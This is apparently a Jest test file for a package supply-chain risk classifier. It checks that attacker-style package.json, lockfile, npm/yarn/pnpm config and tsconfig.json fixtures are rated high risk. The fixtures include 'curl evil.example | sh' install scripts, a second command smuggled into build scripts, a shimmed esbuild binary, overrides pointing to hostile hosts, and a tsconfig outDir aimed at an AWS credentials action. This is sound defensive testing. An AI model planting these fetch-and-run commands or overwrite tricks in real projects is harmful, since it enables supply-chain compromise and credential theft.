// Attacker pass 9k (test-only) on package judging (src/core/risk/package-manifest-risks.ts,
// npm-lockfile-risks.ts, package-manager-config-risks.ts, build-executed-file-risks.ts,
// case-folded-path.ts): `overrides`/`resolutions` written as nested objects or `$` references,
// aliases hiding URLs, workspaces adding packages with scripts, configuration files under
// subfolders or in other cases, `npm-shrinkwrap.json`, and yarn berry patch/plugin files.
// The FAULT cases now pass: tsconfig.json is judged (compiler-config-risks.ts) and new registry
// dependencies without a lockfile, or under a build command's name, are high
// (unpinned-dependency-risks.ts).
import { describe, expect, it } from '@jest/globals';
import { classifyRisk } from '../../../src/core/risk/classify-risk.js';

const riskOf = (files: Record<string, string>) =>
  classifyRisk({
    files: Object.entries(files).map(([path, content]) => ({ path, content, role: 'config' as const })),
    targetEnvironment: 'staging',
    production: false,
  });
const manifest = (body: Record<string, unknown>) =>
  JSON.stringify({ name: 'svc', version: '1.0.0', ...body });

describe('attacker 9k: package.json', () => {
  it('control: a plain esbuild build is low', () => {
    expect(
      riskOf({
        'svc/package.json': manifest({
          scripts: { build: 'esbuild src/index.ts --bundle --outfile=dist/index.js' },
        }),
      }).reasons,
    ).toEqual([]);
  });

  it.each([
    ['a nested override to a tarball URL', { overrides: { foo: { '.': 'https://evil.example/foo.tgz' } } }],
    ['an override under a parent package', { overrides: { foo: { bar: 'github:evil/bar' } } }],
    ['an override by $ reference', { overrides: { foo: '$bar' }, dependencies: { bar: 'github:evil/bar' } }],
    [
      'a yarn resolution with the patch protocol',
      { resolutions: { foo: 'patch:foo@npm%3A1.0.0#./patches/foo.patch' } },
    ],
    [
      'an alias to a git repository of the same name',
      { dependencies: { lodash: 'npm:lodash@github:evil/lodash' } },
    ],
    ['an alias of a scoped package', { dependencies: { lodash: 'npm:@evil/lodash@1.0.0' } }],
    ['a range with a git fallback', { dependencies: { foo: '1.0.0 || evil/foo' } }],
    ['a file dependency', { devDependencies: { foo: 'file:../../outside' } }],
    [
      'a bundled dependency list with a local folder',
      { bundleDependencies: ['foo'], dependencies: { foo: 'file:vendor/foo' } },
    ],
    ['a preinstall script', { scripts: { preinstall: 'curl https://evil.example | sh' } }],
    ['a build through a shell operator', { scripts: { build: 'esbuild src/index.ts && curl evil.example' } }],
    [
      'a build writing outside the service',
      { scripts: { build: 'esbuild src/index.ts --outfile=../../.github/workflows/x.yml' } },
    ],
    ['a build with a newline', { scripts: { build: 'esbuild src/index.ts\ncurl evil.example' } }],
  ])('%s is not low', (_name, body) => {
    expect(riskOf({ 'svc/package.json': manifest(body) }).level).toBe('high');
  });

  it('a workspace package with a postinstall script is not low', () => {
    expect(
      riskOf({
        'svc/package.json': manifest({ workspaces: ['packages/*'] }),
        'svc/packages/a/package.json': manifest({ scripts: { postinstall: 'node evil.js' } }),
      }).level,
    ).toBe('high');
  });

  it.each([
    ['svc/sub/.npmrc', 'registry=https://evil.example/\n'],
    ['svc/.NPMRC', 'script-shell=./evil.sh\n'],
    ['svc/.yarnrc.yml', 'plugins:\n  - path: ./plugin.cjs\n'],
    ['svc/.yarn/plugins/evil.cjs', 'module.exports = {}'],
    ['svc/.pnpmfile.cjs', 'module.exports = {}'],
    ['svc/pnpm-workspace.yaml', 'onlyBuiltDependencies: [evil]\n'],
    ['svc/build/binding.gyp', '{}'],
    ['svc/node_modules/.bin/esbuild', '#!/bin/sh\ncurl evil.example | sh\n'],
    ['svc/NODE_MODULES/esbuild/package.json', '{}'],
  ])('%s is not low', (path, content) => {
    expect(riskOf({ [path]: content }).level).toBe('high');
  });

  it('an npm-shrinkwrap.json adding a package from another host is not low', () => {
    const lock = JSON.stringify({
      name: 'svc',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'svc', dependencies: { foo: '^1.0.0' } },
        'node_modules/foo': {
          version: '1.0.0',
          resolved: 'https://evil.example/foo-1.0.0.tgz',
          integrity: 'sha512-x',
        },
      },
    });
    expect(riskOf({ 'svc/npm-shrinkwrap.json': lock }).level).toBe('high');
  });

  it('an npm lockfile entry with a field npm never writes (scripts) is not low', () => {
    const lock = JSON.stringify({
      name: 'svc',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'svc', dependencies: { foo: '^1.0.0' } },
        'node_modules/foo': {
          version: '1.0.0',
          resolved: 'https://registry.npmjs.org/foo/-/foo-1.0.0.tgz',
          integrity: 'sha512-x',
          scripts: { postinstall: 'curl evil.example | sh' },
        },
      },
    });
    expect(riskOf({ 'svc/package-lock.json': lock }).level).toBe('high');
  });
});

// The build is a plain `tsc` (PLAIN_BUILD refuses `..` and absolute paths in its arguments so it
// cannot write over files outside the service), but tsc takes the same settings from tsconfig.json,
// which no rule reads (TypeScript Handbook, "TSConfig Reference": `outDir`, `outFile`,
// `declarationDir`). An absolute `outDir` writes the compiled JavaScript over, say, the code of an
// action a later step of the deploy workflow runs with its AWS credentials.
describe('attacker 9k: tsconfig.json steering a plain tsc build', () => {
  const service = (tsconfig: Record<string, unknown>) => ({
    'svc/package.json': manifest({ scripts: { build: 'tsc' } }),
    'svc/tsconfig.json': JSON.stringify(tsconfig),
  });

  it('control: a tsconfig writing to dist/ is low', () => {
    expect(riskOf(service({ compilerOptions: { outDir: 'dist', rootDir: 'src' } })).reasons).toEqual([]);
  });

  it('FAULT: a tsconfig whose outDir is an absolute path outside the service is not low', () => {
    expect(
      riskOf(
        service({
          compilerOptions: {
            outDir: '/home/runner/work/_actions/aws-actions/configure-aws-credentials/v4/dist',
          },
        }),
      ).level,
    ).toBe('high');
  });

  it('FAULT: a tsconfig whose outDir climbs out of the service is not low', () => {
    expect(riskOf(service({ compilerOptions: { outDir: '../../other-service/dist' } })).level).toBe('high');
  });
});

// Without a lockfile the deploy run runs `npm install` (src/packaging/build-service.ts), which picks
// versions from the registry at that time and links each package's `bin` into node_modules/.bin,
// first on the PATH of `npm run build`. The lockfile rule reads `bin` and install scripts
// (`SHADOWED_COMMANDS`, `hasInstallScript`); with no lockfile nothing says what is installed.
describe('attacker 9k: a manifest with no lockfile', () => {
  it('FAULT: a dependency named `tsc` (the registry package of that name is not TypeScript) under a `tsc` build, with no lockfile, is not low', () => {
    expect(
      riskOf({
        'svc/package.json': manifest({ scripts: { build: 'tsc' }, devDependencies: { tsc: '^2.0.4' } }),
      }).level,
    ).toBe('high');
  });

  it('FAULT: a new registry dependency with no lockfile (npm install runs its install scripts with the deploy credentials) is not low', () => {
    expect(
      riskOf({
        'svc/package.json': manifest({
          scripts: { build: 'esbuild src/index.ts --bundle --outfile=dist/index.js' },
          dependencies: { 'expresss-validator': '^1.0.0' },
        }),
      }).level,
    ).toBe('high');
  });
});
